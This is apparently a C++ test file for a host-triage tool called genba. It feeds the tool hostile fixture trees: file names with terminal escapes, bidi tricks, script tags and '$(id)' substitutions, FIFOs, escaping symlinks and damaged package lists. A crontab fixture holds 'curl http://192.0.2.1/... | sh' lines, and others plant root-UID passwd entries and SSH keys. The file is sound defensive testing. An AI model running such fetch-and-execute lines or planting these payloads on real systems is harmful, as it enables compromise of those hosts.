// SPDX-License-Identifier: Apache-2.0
//
// A host whose owner does not want to be looked at: names and texts made to attack a terminal, a
// page or a parser, FIFOs where files belong, links that loop or lead out of the tree, damaged
// package lists. Genba must come to an end, open nothing outside, say in the coverage what it could
// not read, and print nothing that a terminal, a browser or a JSON reader would obey.
#include <gtest/gtest.h>
#include <sys/inotify.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <filesystem>
#include <fstream>
#include <iterator>

#include "base/text.h"
#include "support/run_program.h"
#include "support/small_system.h"
#include "support/triage_output.h"

namespace genba::test {
namespace {

constexpr char kCanary[] = "canary-outside-of-the-tree";
constexpr uint32_t kNobody = 65534;

const std::array<std::string, 13>& hostile_words() {
  static const std::array<std::string, 13> kWords = {
      "two\nlines",
      "title\x1b]0;owned\x07",
      "clear\x1b[2J\x1b[H",
      "csi\x9b"
      "31m",
      "\xc2\x9b"
      "31m-c1",
      "bad\xff\xfe\xc3(",
      "cod\xe2\x80\xae"
      "exe.sh",
      "\xe2\x81\xa6isolate\xe2\x80\x8bzero",
      "<script>alert(1)<script>",
      "\" onload='x' <img src=x>",
      "-rf",
      "$(id) `id` {path} %n%s",
      std::string(255, 'n'),
  };
  return kWords;
}

// --- what must never be printed ---------------------------------------------------------------

bool is_bidi_control(uint32_t point) {
  return point == 0x061c || point == 0x200e || point == 0x200f ||
         (point >= 0x202a && point <= 0x202e) || (point >= 0x2066 && point <= 0x2069);
}

// The offset of the first thing that a terminal would obey or misread; npos when there is none.
size_t first_harm(std::string_view text) {
  for (size_t at = 0; at < text.size();) {
    const size_t start = at;
    const uint32_t point = base::next_code_point(text, at);
    const bool control = (point < 0x20 && point != '\n') || (point >= 0x7f && point < 0xa0);
    if (point == 0xffffffff || control || is_bidi_control(point)) {
      return start;
    }
  }
  return std::string_view::npos;
}

void expect_harmless(std::string_view text) {
  const size_t harm = first_harm(text);
  if (harm != std::string_view::npos) {
    const size_t from = harm < 80 ? 0 : harm - 80;
    ADD_FAILURE() << "harmful bytes at " << harm << ", after: " << text.substr(from, harm - from);
  }
}

std::string bytes_of(const std::string& path) {
  std::ifstream stream(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(stream), {}};
}

bool looked(const ProgramResult& result) {
  return !result.timed_out && (result.status == 0 || result.status == 1);
}

/// Triage in all its forms; what `--json` printed is returned.
TriageOutput triage_in_all_forms(const Scratch& tree) {
  const Scratch place;
  const std::string page = place.at("page.html");
  for (const char* language : {"en", "ja"}) {
    SCOPED_TRACE(language);
    const ProgramResult text =
        run_genba({"triage", "--root", tree.path(), "--lang", language, "--report", page});
    EXPECT_TRUE(looked(text)) << text.status << " " << text.err;
    EXPECT_EQ(text.err, "");
    expect_harmless(text.out);
    const std::string html = bytes_of(page);
    EXPECT_FALSE(html.empty());
    expect_harmless(html);
    EXPECT_EQ(html.find("<script"), std::string::npos);
    EXPECT_EQ(html.find("<img"), std::string::npos);
  }
  const ProgramResult json = run_genba({"triage", "--root", tree.path(), "--json"});
  EXPECT_TRUE(looked(json)) << json.status << " " << json.err;
  EXPECT_TRUE(base::is_valid_utf8(json.out));
  expect_harmless(json.out);
  return parse_triage(json.out);
}

bool any_coverage(const TriageOutput& output, std::string_view part) {
  return std::any_of(output.coverage.begin(), output.coverage.end(), [&](const Json& row) {
    return row.at("status") != "complete" && row.dump().find(part) != std::string::npos;
  });
}

std::string all_coverage(const TriageOutput& output) {
  std::string text;
  for (const Json& row : output.coverage) {
    if (row.at("status") != "complete") {
      text += row.dump() + "\n";
    }
  }
  return text;
}

class HostileTree : public testing::Test {
 protected:
  void SetUp() override { build_small_system(tree_); }
  Scratch tree_;
};

// --- trees ------------------------------------------------------------------------------------

TEST_F(HostileTree, NamesAndTextsAreToldButNotObeyed) {
  std::string passwd = bytes_of(tree_.at("etc/passwd"));
  std::string keys;
  std::string crontab;
  for (std::string word : hostile_words()) {
    std::replace(word.begin(), word.end(), '/', '_');
    for (const char* directory : {"usr/bin/", "tmp/", "dev/shm/"}) {
      add_program(tree_, (directory + word).substr(0, std::string(directory).size() + 255));
    }
    tree_.file("etc/cron.d/" + word, "* * * * * root /usr/bin/" + word + "\n");
    tree_.file("etc/systemd/system/" + word.substr(0, 240) + ".service",
               "[Service]\nExecStart=/tmp/" + word + "\n");
    passwd += word + ":x:0:0:" + word + ":/home/" + word + ":/bin/" + word + "\n";
    keys += "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKi1Nw7nXhYqTz4mSKp2yXfX1R0m0c0yHq5mJ8vB3dQe " +
            word + "\n";
    crontab += "* * * * * root curl http://192.0.2.1/" + word + " | sh\n";
  }
  tree_.file("etc/passwd", passwd);
  tree_.file("etc/crontab", crontab);
  tree_.file("root/.ssh/authorized_keys", keys);
  tree_.file("etc/hostname", "\x1b]0;owned\x07</title><script>alert(1)</script>\n");
  tree_.file("etc/os-release", "PRETTY_NAME=\"\x1b[31m<script>\"\nID=debian\n");
  const TriageOutput output = triage_in_all_forms(tree_);
  EXPECT_GT(output.findings.size(), hostile_words().size());
  EXPECT_EQ(output.summary.at("verdict").get<std::string>().empty(), false);
}

TEST_F(HostileTree, FifosInPlaceOfFilesDoNotHoldItUp) {
  for (const char* path :
       {"etc/passwd", "etc/crontab", "etc/shadow", "etc/ld.so.preload", "etc/os-release",
        "var/lib/dpkg/status", "root/.ssh/authorized_keys", "etc/cron.d/fifo", "usr/bin/fifo",
        "etc/systemd/system/fifo.service", "etc/ssh/sshd_config", "etc/nsswitch.conf"}) {
    std::filesystem::remove(tree_.at(path));
    tree_.fifo(path);
  }
  const TriageOutput output = triage_in_all_forms(tree_);
  SCOPED_TRACE(all_coverage(output));
  EXPECT_TRUE(any_coverage(output, "/etc/passwd"));
  EXPECT_TRUE(any_coverage(output, "/etc/crontab"));
  EXPECT_TRUE(any_coverage(output, "/var/lib/dpkg/status"));
}

TEST_F(HostileTree, SocketsAndDirectoriesInPlaceOfFilesAreCoverage) {
  for (const char* path : {"etc/passwd", "etc/crontab", "etc/shadow"}) {
    std::filesystem::remove(tree_.at(path));
  }
  tree_.directory("etc/passwd");
  tree_.socket("etc/crontab");
  tree_.directory("etc/shadow/shadow");
  const TriageOutput output = triage_in_all_forms(tree_);
  SCOPED_TRACE(all_coverage(output));
  EXPECT_TRUE(any_coverage(output, "/etc/passwd"));
  EXPECT_TRUE(any_coverage(output, "/etc/crontab"));
}

TEST_F(HostileTree, LinksThatLoopComeToAnEnd) {
  std::filesystem::remove(tree_.at("etc/crontab"));
  tree_.link("etc/crontab", "crontab");
  tree_.link("etc/cron.d/a", "b");
  tree_.link("etc/cron.d/b", "a");
  tree_.link("root/.ssh", ".ssh");
  tree_.link("usr/bin/up", "..");
  tree_.link("tmp/root", "/");
  tree_.link("etc/systemd/system/loop.service", "loop.service");
  tree_.link("home/hana/.ssh", "../hana/.ssh/.ssh");
  const TriageOutput output = triage_in_all_forms(tree_);
  SCOPED_TRACE(all_coverage(output));
  EXPECT_TRUE(any_coverage(output, "/etc/crontab"));
}

// Sees every open of these files and directories, whoever does it and by whatever name.
class Watch {
 public:
  explicit Watch(const std::vector<std::string>& paths)
      : fd_(inotify_init1(IN_NONBLOCK | IN_CLOEXEC)) {
    for (const std::string& path : paths) {
      EXPECT_GE(inotify_add_watch(fd_, path.c_str(), IN_OPEN | IN_ACCESS), 0) << path;
    }
  }
  ~Watch() { close(fd_); }
  Watch(const Watch&) = delete;
  Watch& operator=(const Watch&) = delete;

  bool saw_anything() const {
    alignas(inotify_event) std::array<char, 4096> buffer;
    return read(fd_, buffer.data(), buffer.size()) > 0;
  }

 private:
  int fd_;
};

TEST_F(HostileTree, LinksThatLeadOutAreNotFollowed) {
  Scratch outside;
  const std::string canary(kCanary);
  outside.file("passwd", canary + ":x:0:0::/root:/bin/sh\n");
  outside.file("cron", "* * * * * root /tmp/" + canary + "\n");
  outside.file("ssh/authorized_keys",
               "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKi1Nw7nXhYqTz4mSKp2yXfX1R0m0c0yHq5mJ8vB3dQe " +
                   canary + "\n");
  outside.file("unit/" + canary + ".service", "[Service]\nExecStart=/tmp/" + canary + "\n");
  outside.file("bin/" + canary,
               "\x7f"
               "ELF");
  const std::string climb = "../../../../../../../../../../.." + outside.path();
  std::filesystem::remove(tree_.at("etc/passwd"));
  tree_.link("etc/passwd", climb + "/passwd");
  tree_.link("etc/cron.d/absolute", outside.at("cron"));
  tree_.link("etc/cron.d/relative", climb + "/cron");
  tree_.link("root/.ssh", outside.at("ssh"));
  tree_.link("home/hana/.ssh", climb + "/ssh");
  tree_.link("etc/systemd/system", climb + "/unit");
  tree_.link("tmp/bin", outside.at("bin"));
  tree_.link("dev/shm", climb + "/bin");
  const Watch watch({outside.path(), outside.at("passwd"), outside.at("cron"), outside.at("ssh"),
                     outside.at("ssh/authorized_keys"), outside.at("unit"), outside.at("bin"),
                     outside.at("bin/" + canary)});
  const ProgramResult result = run_genba({"triage", "--root", tree_.path(), "--json"});
  EXPECT_TRUE(looked(result)) << result.status;
  EXPECT_EQ(result.out.find(canary), std::string::npos) << "something outside was read";
  EXPECT_FALSE(watch.saw_anything()) << "something outside was opened";
  bytes_of(outside.at("passwd"));
  EXPECT_TRUE(watch.saw_anything()) << "the watch is blind";
}

TEST_F(HostileTree, DamagedPackageListsAndEndlessLinesAreCoverageNotCrashes) {
  const std::string endless(8U << 20U, 'A');
  tree_.file("var/lib/dpkg/status", "Package: bash\nStatus: install ok inst" +
                                        std::string("\0\xff\n\n: :\n\n", 8) + endless +
                                        "\nPackage: cron\n" + endless);
  tree_.file("var/lib/dpkg/info/coreutils.list", endless);
  tree_.file("var/lib/dpkg/info/bash.md5sums", "zzzz\n" + endless + "\n\xff\xfe");
  tree_.file("etc/passwd", endless + "\nroot:x:0:0:root:/root:/bin/bash\n" +
                               std::string(100000, ':') + "\n:::::::\n");
  tree_.file("etc/shadow", std::string(1U << 20U, '\n') + std::string(1000, '\0'));
  tree_.file("etc/crontab", "* * * * * root " + endless + "\n" + std::string(200000, '%'));
  tree_.file("etc/cron.d/many", std::string(300000, '*'));
  tree_.file("root/.ssh/authorized_keys", "command=\"" + endless + "\nssh-ed25519 " + endless);
  tree_.file("etc/systemd/system/long.service", "[Service]\nExecStart=" + endless + "\\\n\\\n");
  tree_.file("etc/ssh/sshd_config", "Include /etc/ssh/sshd_config\n" + endless);
  const TriageOutput output = triage_in_all_forms(tree_);
  SCOPED_TRACE(all_coverage(output));
  EXPECT_TRUE(any_coverage(output, "/var/lib/dpkg"));
  EXPECT_TRUE(any_coverage(output, "/etc/passwd"));
}

TEST_F(HostileTree, TreesDeeperThanAnyPathComeToAnEnd) {
  const std::string step(200, 'd');
  std::filesystem::path deep = tree_.at("tmp");
  for (int i = 0; i < 17; ++i) {
    deep /= step;
    std::error_code error;
    std::filesystem::create_directory(deep, error);
  }
  triage_in_all_forms(tree_);
}

TEST_F(HostileTree, EmptyTreeIsNothingThatCouldBeLookedAt) {
  const Scratch empty;
  const ProgramResult result = run_genba({"triage", "--root", empty.path(), "--json"});
  EXPECT_FALSE(result.timed_out);
  EXPECT_EQ(result.status, 2) << result.out;
  const TriageOutput output = parse_triage(result.out);
  EXPECT_TRUE(any_coverage(output, "/etc/passwd")) << all_coverage(output);
}

// --- the running machine ------------------------------------------------------------------------

TEST(LiveWithoutPrivileges, SaysWhatItCouldNotReadAndToRunAsRoot) {
  if (geteuid() != 0) {
    GTEST_SKIP() << "SKIPPED: needs root, to stop being root";
  }
  // A copy that nobody may reach: the build directory may be closed to others.
  const Scratch place;
  std::filesystem::permissions(place.path(), std::filesystem::perms{0755});
  std::filesystem::copy_file(given("GENBA_BINARY"), place.at("genba"));
  std::filesystem::permissions(place.at("genba"), std::filesystem::perms{0755});
  ProgramOptions options;
  options.user = kNobody;
  const ProgramResult result = run_program({place.at("genba"), "triage", "--json"}, options);
  EXPECT_TRUE(looked(result)) << result.status << " " << result.err;
  EXPECT_EQ(result.err, "");
  const TriageOutput output = parse_triage(result.out);
  EXPECT_TRUE(any_coverage(output, "run as root")) << all_coverage(output);
  const ProgramResult text = run_program({place.at("genba"), "triage", "--summary"}, options);
  EXPECT_NE(text.out.find("root"), std::string::npos) << text.out;
}

}  // namespace
}  // namespace genba::test
